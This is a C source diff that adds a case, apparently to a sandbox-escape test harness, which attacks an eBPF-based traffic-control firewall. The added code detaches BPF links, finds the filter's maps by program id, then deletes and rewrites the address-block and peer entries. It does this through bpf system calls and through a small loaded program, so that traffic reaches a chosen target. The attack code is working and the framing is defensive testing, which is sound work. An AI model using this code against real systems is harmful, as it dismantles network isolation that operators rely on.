@@ -184,6 +184,130 @@ ATTACK(bpf_map_write, "breaks", "finds the wall's map of address blocks by id an
 	each_link(open_maps_of);
 	send_now();
 }
+
+/* ---- the tc wall, by the ids of its programs -------------------------------------------------- */
+
+/* A program of ours that has the map's entry at `key` put to what we like, and runs once. */
+static void write_by_program(int map, const uint32_t *entry, unsigned key_size, unsigned value_size)
+{
+	unsigned size = key_size + value_size;
+	struct bpf_insn program[64];
+	unsigned char packet[64] = {0};
+	union bpf_attr attr = {0};
+	unsigned n = 0;
+	int fd;
+
+	for (unsigned i = 0; i < size / 4; i++)
+		program[n++] = INSN(BPF_ST | BPF_MEM | BPF_W, 10, 0, (short)(4 * i - size),
+				    (int)entry[i]);
+	program[n++] = INSN(BPF_LD | BPF_DW | BPF_IMM, 1, BPF_PSEUDO_MAP_FD, 0, map);
+	program[n++] = INSN(0, 0, 0, 0, 0);
+	program[n++] = INSN(BPF_ALU64 | BPF_MOV | BPF_X, 2, 10, 0, 0);
+	program[n++] = INSN(BPF_ALU64 | BPF_ADD | BPF_K, 2, 0, 0, -(int)size);
+	program[n++] = INSN(BPF_ALU64 | BPF_MOV | BPF_X, 3, 10, 0, 0);
+	program[n++] = INSN(BPF_ALU64 | BPF_ADD | BPF_K, 3, 0, 0, -(int)value_size);
+	program[n++] = MOVE(4, 0);
+	program[n++] = CALL(BPF_FUNC_map_update_elem);
+	program[n++] = RETURN;
+	attr.prog_type = BPF_PROG_TYPE_SCHED_CLS;
+	attr.insns = (uintptr_t)program;
+	attr.insn_cnt = n;
+	attr.license = (uintptr_t) "GPL";
+	fd = bpf(BPF_PROG_LOAD, &attr);
+	if (fd < 0) {
+		perror("BPF_PROG_LOAD");
+		return;
+	}
+	memset(&attr, 0, sizeof(attr));
+	attr.test.prog_fd = (unsigned)fd;
+	attr.test.data_in = (uintptr_t)packet;
+	attr.test.data_size_in = sizeof(packet);
+	if (bpf(BPF_PROG_TEST_RUN, &attr) < 0 || attr.test.retval)
+		fprintf(stderr, "the map was not written: %d\n", (int)attr.test.retval);
+	close(fd);
+}
+
+struct lpm_entry {
+	struct cidr_key key;
+	struct cidr_target target;
+};
+struct peer_entry {
+	uint8_t address[16];
+	uint16_t port, published;
+	uint32_t value; /* one byte of it */
+};
+
+/* Empties and fills it again by system calls, then by a program. */
+static void write_wire_map(int map, const struct bpf_map_info *info)
+{
+	struct lpm_entry all = {.target = {.flags = 1, .count = 1,
+					   .ports = {ntohs(target4.sin_port)}}};
+	struct peer_entry peer = {.address = {[10] = 0xff, [11] = 0xff},
+				  .port = ntohs(target4.sin_port), .published = 8099, .value = 1};
+	unsigned char key[64], zeros[64] = {0};
+	union bpf_attr attr = {0};
+
+	memcpy(peer.address + 12, &target4.sin_addr, 4);
+	attr.map_fd = (unsigned)map;
+	attr.value = (uintptr_t)key; /* next_key */
+	if (bpf(BPF_MAP_GET_NEXT_KEY, &attr) == 0) {
+		attr.key = (uintptr_t)key;
+		bpf(BPF_MAP_DELETE_ELEM, &attr);
+	}
+	if (info->type == BPF_MAP_TYPE_LPM_TRIE) {
+		open_map(map);
+		write_by_program(map, (const uint32_t *)&all, sizeof(all.key), sizeof(all.target));
+	} else if (strcmp(info->name, "peers") == 0) {
+		write_by_program(map, (const uint32_t *)&peer, 20, 4);
+	} else if (info->type == BPF_MAP_TYPE_ARRAY && info->value_size <= sizeof(zeros)) {
+		attr.key = (uintptr_t)zeros;
+		bpf(BPF_MAP_UPDATE_ELEM, &attr);
+	}
+}
+
+static void write_maps_of_program(unsigned id, const char *only)
+{
+	unsigned ids[64];
+	struct bpf_prog_info program = {.nr_map_ids = 64, .map_ids = (uintptr_t)ids};
+	int fd = by_id(BPF_PROG_GET_FD_BY_ID, id);
+
+	if (fd < 0 || info_of(fd, &program, sizeof(program)) < 0) {
+		perror("BPF_PROG_GET_FD_BY_ID");
+		return;
+	}
+	for (unsigned i = 0; i < program.nr_map_ids && i < 64; i++) {
+		struct bpf_map_info map = {0};
+		int map_fd = by_id(BPF_MAP_GET_FD_BY_ID, ids[i]);
+
+		if (map_fd >= 0 && info_of(map_fd, &map, sizeof(map)) == 0 &&
+		    strcmp(map.name, "counters") != 0 && (!only || strcmp(map.name, only) == 0))
+			write_wire_map(map_fd, &map);
+		close(map_fd);
+	}
+	close(fd);
+}
+
+void write_wire_maps(const char *only)
+{
+	char *at = getenv("WIRE_PROGRAMS"), *next;
+
+	each_link(detach);
+	for (; at && *at; at = next) {
+		unsigned id = (unsigned)strtoul(at, &next, 10);
+
+		if (next == at)
+			break;
+		write_maps_of_program(id, only);
+	}
+}
+
+ATTACK(bpf_wire_maps, "breaks", "writes what the tc wall decides by, by system call and by program")
+{
+	write_wire_maps("cidrs");
+	write_wire_maps("wire.rodata");
+	send_now();
+}
+
 ATTACK(bpf_prog_detach, "breaks", "BPF_PROG_DETACH of every kind on the bottle's cgroup")
 {
 	int fd = cgroup_fd(setting("CGROUP"));
